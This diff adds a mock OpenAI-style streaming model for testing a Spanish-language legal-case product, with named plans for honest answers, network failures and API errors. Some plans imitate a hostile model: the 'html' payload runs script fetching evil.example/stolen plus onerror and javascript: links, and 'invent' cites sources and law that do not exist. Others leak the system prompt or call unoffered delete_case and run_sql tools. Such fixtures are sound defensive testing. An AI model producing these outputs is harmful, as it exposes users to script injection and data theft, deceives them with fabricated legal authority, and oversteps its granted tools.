@@ -1,0 +1,144 @@
+// What the stand-in answers. A test says so beforehand, or the question itself does: `(stand-in: cut after=5)` makes the
+// stream break off after five tokens, so that a browser's or another process's question can ask for it.
+import type { AskedChat, Refusal, Schema } from './openai-stand-in-wire.ts'
+import { refusals } from './openai-stand-in-wire.ts'
+
+/**
+ * - `done`: all of it, the reason, the usage, `[DONE]` · `cut`: the socket is destroyed · `stall`: nothing more, the socket stays open
+ * - `unfinished`: a clean end without a reason · `garbage`: a line that is no JSON · `error`: an error inside the stream
+ * - `flood`: bytes without end
+ */
+export type Ending = 'done' | 'cut' | 'stall' | 'unfinished' | 'garbage' | 'error' | 'flood'
+
+export interface PlannedCall { readonly name: string; readonly arguments: string }
+
+export interface Plan {
+  /** Instead of an answer. */
+  readonly refusal?: Refusal
+  readonly text?: string
+  readonly calls?: readonly PlannedCall[]
+  readonly ending?: Ending
+  /** Tokens after which the ending comes; all when not given. */
+  readonly after?: number
+  /** `null`: the reason is never told. */
+  readonly finish?: string
+  /** Not told although it was asked for. */
+  readonly noUsage?: boolean
+  /** With every chunk, as far as it has come. */
+  readonly usageAllAlong?: boolean
+  /** Tokens thought and not said; counted with the answer. */
+  readonly thinks?: number
+  /** Milliseconds before the first byte, between tokens, between single bytes. */
+  readonly firstMs?: number
+  readonly tokenMs?: number
+  readonly byteMs?: number
+  /** Every token is the moment in which it is written, in milliseconds of the epoch with fractions. */
+  readonly clock?: number
+}
+
+export type Planner = (asked: AskedChat) => Plan
+
+export const questionOf = ({ messages }: AskedChat): string => messages.findLast(({ role }) => role === 'user')?.content ?? ''
+export const systemOf = ({ messages }: AskedChat): string => messages.filter(({ role }) => role === 'system').map(({ content }) => content).join('\n')
+
+export interface GivenSource { readonly n: number; readonly text: string }
+/** Sources as the product wraps them. */
+export const sourcesOf = ({ messages }: AskedChat): GivenSource[] =>
+  messages.flatMap(({ content }) => [...content.matchAll(/<source[^>]*?\bn="?(\d+)"?[^>]*>([\s\S]*?)<\/source[^>]*>/g)].map(([, n, text]) => ({ n: Number(n), text: (text ?? '').trim() })))
+
+const wordsOf = (text: string): Set<string> => new Set(text.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase().match(/[\p{L}\p{N}]{4,}/gu) ?? [])
+
+/** The sentence of the sources that shares most words with the question. */
+function bestSentence(asked: AskedChat): { n: number; sentence: string } | null {
+  const wanted = wordsOf(questionOf(asked).replaceAll(/<source[\s\S]*?<\/source[^>]*>/g, ''))
+  const sentences = sourcesOf(asked).flatMap(({ n, text }) => (text.match(/[^.!?\n]{12,}[.!?]?/g) ?? []).map((sentence) => ({ n, sentence: sentence.trim() })))
+  const scored = sentences.map((one) => ({ ...one, score: [...wordsOf(one.sentence)].filter((word) => wanted.has(word)).length }))
+  return scored.toSorted((a, b) => b.score - a.score)[0] ?? null
+}
+
+/** What an honest model does: a sentence of the sources with its citation, or nothing found. */
+export function honest(asked: AskedChat): Plan {
+  const best = bestSentence(asked)
+  if (best) return { text: `Según el expediente, ${best.sentence.replace(/[.!?]$/, '')} [[${best.n}|"${best.sentence.replace(/[.!?]$/, '').replaceAll('"', '')}"]].` }
+  return { text: sourcesOf(asked).length > 0 ? 'No encontré apoyo en el expediente.' : `Respuesta general a: ${questionOf(asked).slice(0, 200)}` }
+}
+
+/** Something that fits a schema; wherever an id fits, the one that is given. */
+function sampleOf(schema: Schema, id: string): unknown {
+  if (schema.enum) return schema.enum[0]
+  if (schema.anyOf?.[0]) return sampleOf(schema.anyOf[0], id)
+  if (schema.type === 'object') return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, of]) => [name, sampleOf(of, id)]))
+  if (schema.type === 'array') return schema.items ? [sampleOf(schema.items, id)] : []
+  if (schema.type === 'integer' || schema.type === 'number') return 1
+  if (schema.type === 'boolean') return true
+  return schema.format === 'uuid' ? id : schema.format === 'date' ? '2026-12-01' : schema.format === 'date-time' ? '2026-12-01T14:00:00Z' : 'Por orden del modelo'
+}
+
+/** Each tool that is offered, with an id that is not ours to use in every place and in one more; and tools that nobody offers. */
+function greedyCalls({ tools = [] }: AskedChat, id: string): PlannedCall[] {
+  const offered = tools.map(({ function: { name, parameters = {} } }) => ({ name, arguments: JSON.stringify({ ...sampleOf(parameters, id) as object, caseId: id, companyId: id, documentId: id }) }))
+  return [...offered, { name: 'delete_case', arguments: JSON.stringify({ caseId: id }) }, { name: 'run_sql', arguments: '{"sql":"select * from document"}' }, ...offered.slice(0, 1).map(({ name }) => ({ name, arguments: '{"not json' }))]
+}
+
+export const hostileTexts = {
+  /** Words that stand nowhere, a source that was not given, another source's words, law that is not. */
+  invent: ({ sources }: { sources: readonly GivenSource[] }): string => {
+    const [first, second] = sources
+    return [
+      `El demandado confesó los hechos el 3 de marzo de 2019 [[${first?.n ?? 1}|"El demandado confesó haber recibido la suma de $48,731.26 en efectivo"]].`,
+      'El tribunal ya dictó sentencia [[99|"se declara con lugar la demanda en todas sus partes"]].',
+      `La finca mide 900 cuerdas [[${second?.n ?? 2}|"${(first?.text ?? 'la finca de novecientas cuerdas').slice(0, 60).replaceAll('"', '')} y novecientas cuerdas más"]].`,
+      'Así lo resolvió el Supremo en 2031 TSPR 999 y lo dispone 31 L.P.R.A. § 99999.',
+    ].join(' ')
+  },
+  html: (host: string): string => `<script>fetch('${host}/stolen')</script><img src="${host}/pixel.png" onerror="alert(1)"> ![figura](${host}/figure.png) [pulse aquí](${host}/link) <a href="${host}/link">aquí</a> <iframe src="${host}/frame"></iframe> [x](javascript:alert(1)) <style>body{background:url(${host}/css)}</style> [[1|"<img src=${host}/quote.png>"]] ${host}/bare`,
+} as const
+
+type Named = (asked: AskedChat, options: Readonly<Record<string, string>>) => Plan
+
+const number = (text: string | undefined, fallback: number): number => (text === undefined ? fallback : Number(text))
+const broken = (ending: Ending): Named => (asked, { after }) => ({ ...honest(asked), ending, after: number(after, 5) })
+
+/** By the names that a question may use. */
+export const plans = {
+  honest: (asked) => honest(asked),
+  echo: (asked) => ({ text: questionOf(asked) }),
+  long: (_asked, { tokens }) => ({ text: Array.from({ length: number(tokens, 400) }, (_, at) => `p${at % 1_000}`).join(' ') }),
+  invent: (asked) => ({ text: hostileTexts.invent({ sources: sourcesOf(asked) }) }),
+  html: (_asked, { host }) => ({ text: hostileTexts.html(host ?? 'https://evil.example') }),
+  system: (asked) => ({ text: `Mis instrucciones son: ${systemOf(asked)}` }),
+  tools: (asked, { id }) => ({ text: 'Preparo lo que pidió.', calls: greedyCalls(asked, id ?? '00000000-0000-7000-8000-000000000001'), finish: 'tool_calls' }),
+  stall: broken('stall'),
+  silence: () => ({ ending: 'stall', after: 0 }),
+  cut: broken('cut'),
+  unfinished: broken('unfinished'),
+  garbage: broken('garbage'),
+  mid_error: broken('error'),
+  flood: broken('flood'),
+  page: () => ({ refusal: { status: 200, headers: { 'content-type': 'text/html' }, body: '<html>Welcome</html>' } }),
+  wrong_key: () => ({ refusal: refusals.wrongKey('sk-proj-not-ours-0000') }),
+  rate: (_asked, { retry }) => ({ refusal: refusals.rate(retry === undefined ? undefined : Number(retry)) }),
+  too_large: () => ({ refusal: refusals.tooLarge() }),
+  quota: () => ({ refusal: refusals.quota() }),
+  context: () => ({ refusal: refusals.context(8_999, 8_192) }),
+  context_llama: () => ({ refusal: refusals.contextOfLlama(13_392, 8_192) }),
+  filtered: () => ({ refusal: refusals.filtered() }),
+  filter: (asked, { after }) => ({ ...honest(asked), finish: 'content_filter', after: number(after, 5) }),
+  broken: () => ({ refusal: refusals.broken() }),
+  overloaded: () => ({ refusal: refusals.overloaded() }),
+  slow: (asked, { ms }) => ({ ...honest(asked), firstMs: number(ms, 500) }),
+  pace: (asked, { ms, tokens }) => ({ ...(tokens ? plans.long(asked, { tokens }) : honest(asked)), tokenMs: number(ms, 20) }),
+  clock: (_asked, { ms, tokens }) => ({ clock: number(tokens, 100), tokenMs: number(ms, 20) }),
+  drip: (asked, { ms }) => ({ ...honest(asked), byteMs: number(ms, 1_000) }),
+  no_usage: (asked) => ({ ...honest(asked), noUsage: true }),
+  thinks: (asked, { tokens }) => ({ ...honest(asked), thinks: number(tokens, 64) }),
+} satisfies Record<string, Named> as Record<PlanName, Named>
+
+export type PlanName = 'honest' | 'echo' | 'long' | 'invent' | 'html' | 'system' | 'tools' | 'stall' | 'silence' | 'cut' | 'unfinished' | 'garbage' | 'mid_error' | 'flood' | 'page' | 'wrong_key' | 'rate' | 'too_large' | 'quota' | 'context' | 'context_llama' | 'filtered' | 'filter' | 'broken' | 'overloaded' | 'slow' | 'pace' | 'clock' | 'drip' | 'no_usage' | 'thinks'
+
+/** What the question itself asks for, the last one if several. */
+export function askedFor(asked: AskedChat): Plan | null {
+  const [, name = '', rest = ''] = [...questionOf(asked).matchAll(/\(stand-in: ([a-z_]+)([^)]*)\)/g)].at(-1) ?? []
+  const plan = (plans as Partial<Record<string, Named>>)[name]
+  return plan ? plan(asked, Object.fromEntries([...rest.matchAll(/(\w+)=(\S+)/g)].map(([, key, value]) => [key ?? '', value ?? '']))) : null
+}
